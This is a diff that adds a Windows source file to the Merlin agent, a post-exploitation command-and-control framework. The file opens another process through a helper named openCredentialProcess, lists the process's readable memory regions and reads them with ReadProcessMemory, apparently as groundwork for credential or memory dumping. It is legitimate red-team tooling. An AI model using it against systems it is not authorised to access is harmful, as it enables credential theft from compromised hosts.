@@ -0,0 +1,118 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// Memory protection and state constants used to find readable regions
+// https://learn.microsoft.com/en-us/windows/win32/memory/memory-protection-constants
+const (
+	memCommit     = 0x1000
+	memImage      = 0x1000000
+	memMapped     = 0x40000
+	pageGuard     = 0x100
+	pageReadable  = windows.PAGE_READONLY | windows.PAGE_READWRITE | windows.PAGE_WRITECOPY | windows.PAGE_EXECUTE_READ | windows.PAGE_EXECUTE_READWRITE | windows.PAGE_EXECUTE_WRITECOPY
+	pageWritable  = windows.PAGE_READWRITE | windows.PAGE_WRITECOPY | windows.PAGE_EXECUTE_READWRITE | windows.PAGE_EXECUTE_WRITECOPY
+	pageExecutive = windows.PAGE_EXECUTE_READ | windows.PAGE_EXECUTE_READWRITE | windows.PAGE_EXECUTE_WRITECOPY
+)
+
+// windowsProcessMemory reads a process's memory with ReadProcessMemory
+type windowsProcessMemory struct {
+	handle windows.Handle
+}
+
+// openProcessMemory opens the process with the access needed to query and read its memory
+func openProcessMemory(pid int) (processMemory, error) {
+	if _, err := targetArch(uint32(pid), "read"); err != nil {
+		return nil, err
+	}
+	handle, note, err := openCredentialProcess(uint32(pid), windows.PROCESS_QUERY_INFORMATION|windows.PROCESS_VM_READ)
+	if err != nil {
+		return nil, fmt.Errorf("there was an error opening process %d: %s", pid, err)
+	}
+	if note != "" {
+		if cli.Enabled {
+			cli.Message(cli.NOTE, note)
+		}
+	}
+	return &windowsProcessMemory{handle: handle}, nil
+}
+
+// Regions walks the process's address space with VirtualQueryEx and returns the committed readable regions
+func (m *windowsProcessMemory) Regions() (regions []memoryRegion, err error) {
+	getMappedFileName := windows.NewLazySystemDLL("kernel32.dll").NewProc("K32GetMappedFileNameW")
+	var info windows.MemoryBasicInformation
+	for address := uintptr(0); ; address = info.BaseAddress + info.RegionSize {
+		if err = windows.VirtualQueryEx(m.handle, address, &info, unsafe.Sizeof(info)); err != nil {
+			// VirtualQueryEx fails past the end of the user address space
+			break
+		}
+		if info.RegionSize == 0 {
+			break
+		}
+		if info.State != memCommit || info.Protect&pageGuard != 0 || info.Protect&pageReadable == 0 {
+			continue
+		}
+		region := memoryRegion{Start: uint64(info.BaseAddress), End: uint64(info.BaseAddress + info.RegionSize), Perms: "r"}
+		if info.Protect&pageWritable != 0 {
+			region.Perms += "w"
+		}
+		if info.Protect&pageExecutive != 0 {
+			region.Perms += "x"
+		}
+		if info.Type == memImage || info.Type == memMapped {
+			buf := make([]uint16, windows.MAX_PATH)
+			if n, _, _ := getMappedFileName.Call(uintptr(m.handle), info.BaseAddress, uintptr(unsafe.Pointer(&buf[0])), uintptr(len(buf))); n != 0 {
+				region.Path = windows.UTF16ToString(buf[:n])
+			}
+		}
+		regions = append(regions, region)
+	}
+	if len(regions) == 0 && err != nil {
+		return nil, err
+	}
+	return regions, nil
+}
+
+// ReadAt reads the process's memory at the address
+func (m *windowsProcessMemory) ReadAt(data []byte, address uint64) (int, error) {
+	if len(data) == 0 {
+		return 0, nil
+	}
+	var n uintptr
+	err := windows.ReadProcessMemory(m.handle, uintptr(address), &data[0], uintptr(len(data)), &n)
+	return int(n), err
+}
+
+// Close closes the process handle
+func (m *windowsProcessMemory) Close() error {
+	return windows.CloseHandle(m.handle)
+}